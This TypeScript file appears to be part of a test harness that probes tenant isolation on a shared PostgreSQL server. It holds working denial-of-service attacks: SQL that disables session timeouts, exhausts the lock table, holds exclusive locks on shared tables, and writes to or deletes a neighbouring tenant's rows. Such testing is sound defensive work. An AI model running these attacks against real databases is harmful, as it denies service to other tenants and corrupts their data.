import { asOwner, EVERYWHERE, OWN, type Raid, SHARED, type SiegeAttack } from './siege-attack.ts'

/** PATIENT takes off the time limits that a role has by its settings: they are defaults, which each session may change. */
export const PATIENT = `set statement_timeout = 0; set lock_timeout = 0; set idle_in_transaction_session_timeout = 0;
  set transaction_timeout = 0`
/** The same before PostgreSQL 17, which has no transaction_timeout. */
const PATIENT_BEFORE_17 = PATIENT.replace(/;\s*set transaction_timeout = 0/, '')

/** patient begins a session that waits and idles for as long as it likes. */
export async function patient(raid: Raid): Promise<void> {
  await raid.run(PATIENT).catch(() => raid.run(PATIENT_BEFORE_17))
}

/** begin opens a transaction that may write and idle. */
export async function begin(raid: Raid): Promise<void> {
  await patient(raid)
  await raid.run('rollback; begin; set transaction read write')
}

/** More than the lock table holds, which is about max_locks_per_transaction * max_connections: 6400 by default. */
const MORE_THAN_FIT = 20_000
/** Tables of each of three attackers, together more than fit. */
const TABLES = 5_000
/** Read by two sessions of each: a lock of each session's for each table. */
const PREDICATE_TABLES = 1_500
/** Subtransactions of each of three attackers, likewise. */
const SAVEPOINTS = 6_000
/** What one session takes where many share the work. */
const A_FEW = 400

/** fill runs a statement until the lock table is full, and keeps what it has got by then. */
function fill(statement: string, times: number): string {
  return `do $$ begin
    for i in 1..${times / 100} loop
      begin
        for j in 1..100 loop ${statement}; end loop;
      exception when out_of_memory then exit;
      end;
    end loop;
    ${topUp(statement)}
  end $$`
}

/** topUp takes what little is free. */
function topUp(statement: string): string {
  return `for i in 1..200 loop
    begin ${statement};
    exception when out_of_memory then exit;
    end;
  end loop;`
}

/** keepFull fills the lock table and takes at once what becomes free. @throws when the session is lost */
async function keepFull(raid: Raid, statement: string): Promise<void> {
  await raid.attempt(fill(statement, MORE_THAN_FIT))
  for (;;) {
    await raid.hold(100)
    await raid.attempt(`do $$ begin ${topUp(statement)} end $$`)
  }
}

/** makeTables makes so many tables, siege_1 and on, each few in a transaction. */
export async function makeTables(raid: Raid, count: number): Promise<void> {
  await patient(raid)
  await raid.run(asOwner(raid.attacker))
  const step = 250
  for (let from = 1; from <= count; from += step) {
    await raid.run(`do $$ begin
      for i in ${from}..${Math.min(from + step - 1, count)} loop
        execute format('create table siege_%s ()', i);
      end loop;
    end $$`)
  }
}

const ADVISORY = 'perform pg_advisory_lock((random() * 4e18)::bigint)'

/** LOCK_ATTACKS fill the table in which the server keeps all locks of all sessions. */
export const LOCK_ATTACKS: readonly SiegeAttack[] = [
  {
    name: 'advisory-locks',
    about: 'One session takes advisory locks until the lock table is full',
    placements: EVERYWHERE,
    sessions: 1,
    async act(raid) {
      await patient(raid)
      await keepFull(raid, ADVISORY)
    },
  },
  {
    name: 'advisory-locks-by-many',
    about: `As many sessions as it gets take ${A_FEW} advisory locks each`,
    placements: OWN,
    sessions: 'all',
    async act(raid) {
      await patient(raid)
      await raid.attempt(fill(ADVISORY, A_FEW))
      await raid.hold()
    },
  },
  {
    name: 'advisory-locks-elsewhere',
    about: 'The same in the database postgres, which lets every login in',
    placements: EVERYWHERE,
    sessions: 1,
    database: 'postgres',
    async act(raid) {
      await patient(raid)
      await keepFull(raid, ADVISORY)
    },
  },
  {
    name: 'large-object-locks',
    about: 'Makes and drops large objects in one transaction until the lock table is full',
    placements: EVERYWHERE,
    sessions: 1,
    async act(raid) {
      await begin(raid)
      await keepFull(raid, 'perform lo_unlink(lo_create(0))')
    },
  },
  {
    name: 'table-locks',
    about: 'Locks many tables of its own in one transaction, until the lock table is full',
    placements: OWN,
    sessions: 1,
    isSlowToDelete: true,
    prepare: (raid) => makeTables(raid, TABLES),
    async act(raid) {
      await begin(raid)
      await raid.run(asOwner(raid.attacker))
      await raid.attempt(`do $$ begin
        for i in 1..${TABLES} loop
          begin execute format('lock table siege_%s in access exclusive mode', i);
          exception when out_of_memory then exit;
          end;
        end loop;
      end $$`)
      await raid.hold()
    },
  },
  {
    name: 'predicate-locks',
    about:
      'Reads many tables of its own in serializable transactions that stay open, until their lock table is full',
    placements: OWN,
    sessions: 2,
    prepare: (raid) => makeTables(raid, PREDICATE_TABLES),
    async act(raid) {
      await begin(raid)
      await raid.run(`${asOwner(raid.attacker)}; rollback; begin isolation level serializable`)
      await raid.attempt(`do $$ begin
        for i in 1..${PREDICATE_TABLES} loop
          begin execute format('select from siege_%s', i);
          exception when out_of_memory then exit;
          end;
        end loop;
      end $$`)
      await raid.hold()
    },
  },
  {
    name: 'subtransaction-locks',
    about:
      'Writes a row in each of many subtransactions, whose numbers are locks, until the lock table is full',
    placements: EVERYWHERE,
    sessions: 1,
    async act(raid) {
      await begin(raid)
      await raid.attempt(
        Array.from(
          { length: SAVEPOINTS },
          (_, i) => `savepoint s${i}; insert into users (first_name, last_name) values ('Siege', 'Siege')`,
        ).join(';'),
      )
      await raid.hold()
    },
  },
  {
    name: 'catalog-locks',
    about: 'As many sessions as it gets read every system catalog in a transaction that stays open',
    placements: EVERYWHERE,
    sessions: 'all',
    async act(raid) {
      await begin(raid)
      await raid.attempt(`do $$ declare name text; begin
        for name in select oid::regclass from pg_class
          where relnamespace = 'pg_catalog'::regnamespace and relkind in ('r', 'v')
        loop
          begin execute 'select from ' || name || ' limit 0';
          exception when insufficient_privilege then null; when out_of_memory then exit;
          end;
        end loop;
      end $$`)
      await raid.hold()
    },
  },
]

/** TABLE_ATTACKS lock the tables that tenants share. */
export const TABLE_ATTACKS: readonly SiegeAttack[] = [
  {
    name: 'table-lock',
    about: 'Locks a shared table against everybody and keeps it; ended, it takes the lock again',
    placements: SHARED,
    sessions: 1,
    async act(raid) {
      await begin(raid)
      await raid.run('lock table app.users in access exclusive mode')
      await raid.hold()
    },
  },
  {
    name: 'table-lock-by-many',
    about: 'As many sessions as it gets stand in line for that lock, each keeps it',
    placements: SHARED,
    sessions: 'all',
    async act(raid) {
      await begin(raid)
      await raid.run('lock table app.users in access exclusive mode')
      await raid.hold()
    },
  },
  {
    name: 'table-lock-in-turns',
    about: 'As many sessions as it gets take that lock in turns, for 0.8 seconds each',
    placements: SHARED,
    sessions: 'all',
    async act(raid) {
      await begin(raid)
      await raid.run('lock table app.users in access exclusive mode; select pg_sleep(0.8); commit')
    },
  },
  {
    name: 'table-lock-behind-reader',
    about:
      'Reads a shared table in a transaction that stays open, and waits for its lock in a second session',
    placements: SHARED,
    sessions: 2,
    async act(raid) {
      await begin(raid)
      if (raid.number === 0) await raid.run('select from app.users limit 1')
      else await raid.run('lock table app.users in access exclusive mode')
      await raid.hold()
    },
  },
  {
    name: 'table-lock-against-writers',
    about: 'Locks a shared table against writers alone',
    placements: SHARED,
    sessions: 2,
    async act(raid) {
      await begin(raid)
      await raid.run('lock table app.users in share mode')
      await raid.hold()
    },
  },
  {
    name: 'table-lock-unread',
    about: 'Holds that lock in a statement whose answer it does not read, so that the session never idles',
    placements: SHARED,
    sessions: 1,
    async act(raid) {
      await begin(raid)
      await raid.run('lock table app.users in access exclusive mode')
      await raid.deaf(`select repeat('x', 1000) from generate_series(1, 1000000)`)
    },
  },
  {
    name: 'neighbour-rows',
    about: "Writes, changes and locks rows by a neighbour's id and keys, in a transaction that stays open",
    placements: SHARED,
    sessions: 4,
    async act(raid) {
      const { id } = raid.victim
      await begin(raid)
      for (const text of [
        `insert into app.users (tenant_id, first_name, last_name) values ('${id}', 'Siege', 'Siege')`,
        `insert into app.users (tenant_id, id, first_name, last_name)
          select '${id}', id, 'Siege', 'Siege' from app.users limit 1 on conflict do nothing`,
        `update app.users set tenant_id = '${id}'`,
        `update app.users set first_name = 'Siege' where tenant_id = '${id}'`,
        `select from app.users where tenant_id = '${id}' for update`,
        `delete from app.users where tenant_id = '${id}'`,
      ]) {
        await raid.attempt(`savepoint s; ${text}`)
        await raid.attempt('rollback to s')
      }
      await raid.attempt(
        `insert into users (first_name, last_name) values ('Siege', 'Siege'); select from users for update`,
      )
      await raid.hold(500)
    },
  },
]
